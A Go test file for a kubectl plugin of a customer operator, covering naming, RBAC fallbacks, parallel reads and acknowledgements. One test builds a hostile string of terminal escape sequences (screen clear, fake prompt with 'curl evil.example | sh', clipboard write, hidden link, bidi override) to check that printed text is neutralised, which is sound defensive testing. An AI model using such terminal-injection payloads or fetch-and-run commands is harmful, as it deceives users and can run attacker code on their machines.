package plugin

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	. "github.com/onsi/gomega"
	authorizationv1 "k8s.io/api/authorization/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/runtime/schema"
	utilvalidation "k8s.io/apimachinery/pkg/util/validation"
	"k8s.io/cli-runtime/pkg/genericiooptions"
	"sigs.k8s.io/controller-runtime/pkg/client"
	"sigs.k8s.io/controller-runtime/pkg/client/fake"
	"sigs.k8s.io/controller-runtime/pkg/client/interceptor"

	v1alpha1 "github.com/partnerops/customer-operator/api/v1alpha1"
)

func TestMembershipName(t *testing.T) {
	hashed := MatchRegexp(`^acme-[0-9a-f]{16}$`)
	for email, want := range map[string]OmegaMatcher{
		"alice@example.com":       Equal("acme-alice-at-example.com"),
		"alice.smith@example.com": Equal("acme-alice.smith-at-example.com"),
		// Characters a name cannot hold ('+', '_', a dot before '@'): a hash instead.
		"alice+ops@example.com": hashed,
		"bob_b@example.com":     hashed,
		"carol.@example.com":    hashed,
	} {
		got := membershipName("acme", email)
		NewWithT(t).Expect(got).To(want, email)
		NewWithT(t).Expect(utilvalidation.IsDNS1123Subdomain(got)).To(BeEmpty(), got)
	}
}

func TestAcknowledgementNameIsStablePerUserAndValid(t *testing.T) {
	g := NewWithT(t)
	a := newAcknowledgement("acme-maintenance", "alice@example.com")
	g.Expect(a.Name).To(MatchRegexp(`^acme-maintenance-[0-9a-f]{10}$`))
	g.Expect(newAcknowledgement("acme-maintenance", "alice@example.com").Name).To(Equal(a.Name))
	g.Expect(newAcknowledgement("acme-maintenance", "bob@example.com").Name).NotTo(Equal(a.Name))
	g.Expect(a.Spec.User).To(Equal("alice@example.com"))

	long := newAcknowledgement(strings.Repeat("m", 240)+".-x"+strings.Repeat("y", 10), "alice")
	g.Expect(len(long.Name)).To(BeNumerically("<=", 253))
	g.Expect(utilvalidation.IsDNS1123Subdomain(long.Name)).To(BeEmpty())
}

func TestExplain(t *testing.T) {
	gr := schema.GroupResource{Group: "customers.partnerops.io", Resource: "messageacknowledgements"}
	webhookDenial := apierrors.NewForbidden(gr, "n", errors.New("x"))
	webhookDenial.ErrStatus.Message = `admission webhook "vmessageacknowledgement.customers.partnerops.io" denied the request: ` +
		`messageacknowledgements.customers.partnerops.io "n" is forbidden: CustomerMessage "m" is already resolved`
	rbacDenial := apierrors.NewForbidden(gr, "n", errors.New(`User "alice" cannot create resource "messageacknowledgements"`))

	for name, tc := range map[string]struct {
		err  error
		want string
	}{
		"admission denial: the reason only": {webhookDenial, `cannot acknowledge m: CustomerMessage "m" is already resolved`},
		"RBAC denial: who, and whom to ask": {rbacDenial, `cannot acknowledge m: "alice" may not do that (RBAC); ask`},
		"not found":                         {apierrors.NewNotFound(gr, "n"), `cannot acknowledge m: messageacknowledgements.customers.partnerops.io "n" not found`},
		"not an API error":                  {errors.New("dial tcp: refused"), "dial tcp: refused"},
	} {
		t.Run(name, func(t *testing.T) {
			NewWithT(t).Expect(explain(tc.err, `"alice"`, "acknowledge m", "ask").Error()).To(Equal(tc.want))
		})
	}
}

func TestHelpReadsLikeKubectl(t *testing.T) {
	g := NewWithT(t)
	streams, _, out, _ := genericiooptions.NewTestIOStreams()
	cmd := NewCommand(streams)
	cmd.SetArgs([]string{"ack", "--help"})
	g.Expect(cmd.Execute()).To(Succeed())
	g.Expect(out.String()).To(ContainSubstring("Usage:\n  kubectl customer ack MESSAGE [flags]"))
	g.Expect(out.String()).To(ContainSubstring("Examples:\n  # Acknowledge the message acme-maintenance\n  kubectl customer ack acme-maintenance\n"))
	g.Expect(out.String()).To(HavePrefix("Acknowledge a CustomerMessage: create a MessageAcknowledgement in your name.\n"))
}

func TestArgumentsAreCheckedBeforeAnyRequest(t *testing.T) {
	g := NewWithT(t)
	streams, _, _, _ := genericiooptions.NewTestIOStreams()
	cmd := NewCommand(streams)
	// No server at all: these must fail on their arguments alone.
	cmd.SetArgs([]string{"--server", "https://127.0.0.1:1", "invite", "acme", "not-an-email", "--role", "Editor"})
	g.Expect(cmd.Execute()).To(MatchError(ContainSubstring(`EMAIL "not-an-email": must be an e-mail address`)))
	cmd = NewCommand(streams)
	cmd.SetArgs([]string{"--server", "https://127.0.0.1:1", "add-myself", "acme", "--role", "Owner"})
	g.Expect(cmd.Execute()).To(MatchError(`--role "Owner": must be one of Admin, Editor or Viewer`))
}

// A list that the rules review suggested but RBAC refuses (an incomplete review
// from a webhook authorizer; a RoleBinding in the review's namespace) is not an
// error: what the review named is read by name, and nothing is fine too.
func TestReadableFallsBackToNamesWhenTheListIsRefused(t *testing.T) {
	forbidden := apierrors.NewForbidden(schema.GroupResource{Group: v1alpha1.GroupName, Resource: "customermessages"}, "",
		errors.New("RBAC: list refused"))
	for name, tc := range map[string]struct {
		status authorizationv1.SubjectRulesReviewStatus
		want   []string
	}{
		"incomplete review, nothing named": {
			status: authorizationv1.SubjectRulesReviewStatus{Incomplete: true},
		},
		"a list rule that does not reach the cluster, and a name": {
			status: authorizationv1.SubjectRulesReviewStatus{ResourceRules: []authorizationv1.ResourceRule{
				{Verbs: []string{"get", "list"}, APIGroups: []string{v1alpha1.GroupName}, Resources: []string{"customermessages"}},
				{Verbs: []string{"get"}, APIGroups: []string{v1alpha1.GroupName}, Resources: []string{"customermessages"},
					ResourceNames: []string{"acme-notice", "acme-gone"}},
			}},
			want: []string{"acme-notice"},
		},
	} {
		t.Run(name, func(t *testing.T) {
			g := NewWithT(t)
			c := fake.NewClientBuilder().WithScheme(scheme).
				WithObjects(&v1alpha1.CustomerMessage{
					ObjectMeta: metav1.ObjectMeta{Name: "acme-notice"},
					Spec:       v1alpha1.CustomerMessageSpec{Customer: "acme", Title: "t", Body: "b"},
				}).
				WithInterceptorFuncs(interceptor.Funcs{
					Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
						if review, ok := obj.(*authorizationv1.SelfSubjectRulesReview); ok {
							review.Status = tc.status
							return nil
						}
						return c.Create(ctx, obj, opts...)
					},
					List: func(context.Context, client.WithWatch, client.ObjectList, ...client.ListOption) error {
						return forbidden
					},
				}).Build()
			got, err := readableMessages(context.Background(), c, "")
			g.Expect(err).NotTo(HaveOccurred())
			g.Expect(messageNames(got)).To(Equal(tc.want))
		})
	}
}

func TestMemberState(t *testing.T) {
	member := func(mode v1alpha1.InvitationMode, accepted bool, conditions ...metav1.Condition) *v1alpha1.CustomerMembership {
		m := &v1alpha1.CustomerMembership{Spec: v1alpha1.CustomerMembershipSpec{Customer: "acme", Email: "a@example.com", Invitation: mode}}
		if accepted {
			m.Status.AcceptedTime = &metav1.Time{}
		}
		m.Status.Conditions = conditions
		return m
	}
	cond := func(conditionType string, status metav1.ConditionStatus, reason string) metav1.Condition {
		return metav1.Condition{Type: conditionType, Status: status, Reason: reason}
	}
	for want, m := range map[string]*v1alpha1.CustomerMembership{
		"active":  member(v1alpha1.InvitationNone, false, cond(v1alpha1.AcceptedCondition, metav1.ConditionTrue, v1alpha1.AddedDirectlyReason)),
		"invited": member(v1alpha1.InvitationEmail, false, cond(v1alpha1.AcceptedCondition, metav1.ConditionFalse, v1alpha1.AwaitingAcceptanceReason)),
		"invitation expired": member(v1alpha1.InvitationEmail, false,
			cond(v1alpha1.AcceptedCondition, metav1.ConditionFalse, v1alpha1.InvitationExpiredReason)),
		"duplicate, grants nothing": member(v1alpha1.InvitationNone, true,
			cond(v1alpha1.AcceptedCondition, metav1.ConditionTrue, v1alpha1.AddedDirectlyReason),
			cond(v1alpha1.ReadyCondition, metav1.ConditionFalse, v1alpha1.DuplicateReason)),
	} {
		NewWithT(t).Expect(memberState(m)).To(Equal(want))
	}
	accepted := member(v1alpha1.InvitationEmail, true, cond(v1alpha1.AcceptedCondition, metav1.ConditionTrue, v1alpha1.AcceptedReason))
	NewWithT(t).Expect(memberState(accepted)).To(Equal("active"))
}

func TestMayListCustomersAsksForListOfCustomers(t *testing.T) {
	for _, partner := range []bool{true, false} {
		c := fake.NewClientBuilder().WithInterceptorFuncs(interceptor.Funcs{
			Create: func(_ context.Context, _ client.WithWatch, obj client.Object, _ ...client.CreateOption) error {
				review := obj.(*authorizationv1.SelfSubjectAccessReview)
				attrs := review.Spec.ResourceAttributes
				review.Status.Allowed = partner && attrs.Verb == "list" && attrs.Group == v1alpha1.GroupName &&
					attrs.Resource == "customers" && attrs.Name == "" && attrs.Namespace == ""
				return nil
			},
		}).Build()
		NewWithT(t).Expect(mayListCustomers(context.Background(), c)).To(Equal(partner))
	}
}

// A member reads messages by name: readable asks for up to parallelRequests at once,
// keeps the order of the names, leaves out what is gone, and stops at an error.
func TestReadableReadsNamesInParallelInOrder(t *testing.T) {
	g := NewWithT(t)
	var names, want []string
	var objs []client.Object
	for i := range 40 {
		name := fmt.Sprintf("acme-%02d", i)
		names = append(names, name)
		if i%2 == 0 { // the odd ones were deleted since the review
			want = append(want, name)
			objs = append(objs, &v1alpha1.CustomerMessage{ObjectMeta: metav1.ObjectMeta{Name: name},
				Spec: v1alpha1.CustomerMessageSpec{Customer: "acme", Title: "t", Body: "b"}})
		}
	}
	var inFlight, most atomic.Int32
	failOn := ""
	c := fake.NewClientBuilder().WithScheme(scheme).WithObjects(objs...).
		WithInterceptorFuncs(interceptor.Funcs{
			Create: func(ctx context.Context, c client.WithWatch, obj client.Object, opts ...client.CreateOption) error {
				review := obj.(*authorizationv1.SelfSubjectRulesReview)
				review.Status.ResourceRules = []authorizationv1.ResourceRule{{Verbs: []string{"get"},
					APIGroups: []string{v1alpha1.GroupName}, Resources: []string{"customermessages"}, ResourceNames: names}}
				return nil
			},
			Get: func(ctx context.Context, c client.WithWatch, key client.ObjectKey, obj client.Object, opts ...client.GetOption) error {
				n := inFlight.Add(1)
				defer inFlight.Add(-1)
				for m := most.Load(); n > m && !most.CompareAndSwap(m, n); m = most.Load() {
				}
				time.Sleep(5 * time.Millisecond)
				if key.Name == failOn {
					return apierrors.NewInternalError(errors.New("etcd is away"))
				}
				return c.Get(ctx, key, obj, opts...)
			},
		}).Build()

	got, err := readableMessages(context.Background(), c, "")
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(messageNames(got)).To(Equal(want), "the names' order, without the deleted ones")
	g.Expect(most.Load()).To(BeNumerically(">", 1), "more than one at a time")
	g.Expect(most.Load()).To(BeNumerically("<=", parallelRequests))

	failOn = "acme-20"
	_, err = readableMessages(context.Background(), c, "")
	g.Expect(err).To(MatchError(ContainSubstring(`reading CustomerMessage "acme-20"`)))
}

// An interrupted command reports the interruption, not a partial result.
func TestInParallelReportsAnInterruption(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithCancel(context.Background())
	var calls atomic.Int32
	err := inParallel(ctx, 100, func(ctx context.Context, i int) error {
		if calls.Add(1) == 3 {
			cancel()
		}
		return nil
	})
	g.Expect(err).To(MatchError(context.Canceled))
	g.Expect(calls.Load()).To(BeNumerically("<", 100), "no calls started after the interruption")
	g.Expect(inParallel(context.Background(), 5, func(context.Context, int) error { return nil })).To(Succeed())
}

func messageNames(messages []v1alpha1.CustomerMessage) []string {
	var names []string
	for _, m := range messages {
		names = append(names, m.Name)
	}
	return names
}

// TestPrintedTextCannotDriveTheTerminal: what partners write (titles, bodies,
// display names) reaches members' terminals without escape sequences, carriage
// returns or bidirectional overrides, shown instead as \uXXXX.
func TestPrintedTextCannotDriveTheTerminal(t *testing.T) {
	g := NewWithT(t)
	hostile := "Maintenance\x1b[2J\x1b[H$ curl evil.example | sh\r" + // clear the screen, fake a prompt
		"\x1b]52;c;ZXZpbA==\x07" + // set the clipboard
		"\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\" + // a hidden link
		"\u202egnp.exe\u009b31m" // a right-to-left override, a C1 CSI
	m := &v1alpha1.CustomerMessage{
		ObjectMeta: metav1.ObjectMeta{Name: "notice"},
		Spec:       v1alpha1.CustomerMessageSpec{Customer: "acme", Title: hostile, Body: "line one\n\tindented\n" + hostile},
	}
	var out strings.Builder
	printBody(&out, m)
	printed := out.String() + oneLine(hostile, 200) + inline(hostile)
	for _, r := range printed {
		g.Expect(r == '\n' || r == '\t' || !unprintable(r)).To(BeTrue(), "printed %U in %q", r, printed)
	}
	g.Expect(printed).To(ContainSubstring(`\u001b]52;c;`), "shown, not obeyed")
	g.Expect(printed).To(ContainSubstring(`\u202egnp.exe\u009b31m`))
	g.Expect(out.String()).To(ContainSubstring("line one\n\tindented\n"), "the body keeps its lines")
	g.Expect(printable("Grüße, 東京 — ok")).To(Equal("Grüße, 東京 — ok"), "text without controls is left alone")
	g.Expect(ErrorText(errors.New("cannot ack: "+hostile))).NotTo(ContainSubstring("\x1b"), "errors, printed by main, too")
}

// TestAlreadyAcknowledgedCountsAdmittedRetries: a retried ack whose first create
// was admitted but not yet recorded by the operator is told it acknowledged, not
// refused.
func TestAlreadyAcknowledgedCountsAdmittedRetries(t *testing.T) {
	g := NewWithT(t)
	now := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
	message := func(reservations []v1alpha1.AcknowledgementReservation, by ...string) *v1alpha1.CustomerMessage {
		m := &v1alpha1.CustomerMessage{ObjectMeta: metav1.ObjectMeta{Name: "notice"}}
		m.Status.Reservations = reservations
		for _, u := range by {
			m.Status.AcknowledgedBy = append(m.Status.AcknowledgedBy, v1alpha1.Acknowledgement{User: u})
		}
		return m
	}
	ask := func(m *v1alpha1.CustomerMessage) bool {
		c := fake.NewClientBuilder().WithScheme(scheme).WithObjects(m).Build()
		return alreadyAcknowledged(context.Background(), c, "notice", "ann@example.com", now)
	}
	later := metav1.NewTime(now.Add(time.Minute))
	earlier := metav1.NewTime(now.Add(-time.Minute))
	g.Expect(ask(message(nil, "ann@example.com"))).To(BeTrue(), "recorded")
	g.Expect(ask(message([]v1alpha1.AcknowledgementReservation{{User: "ann@example.com", ExpiresAt: later}}))).To(BeTrue(),
		"admitted, not yet recorded")
	g.Expect(ask(message([]v1alpha1.AcknowledgementReservation{{User: "ann@example.com", ExpiresAt: earlier}}))).To(BeFalse(),
		"a reservation that lapsed: the create never landed")
	g.Expect(ask(message([]v1alpha1.AcknowledgementReservation{{User: "bob@example.com", ExpiresAt: later}}, "bob@example.com"))).To(BeFalse(),
		"someone else's")
}
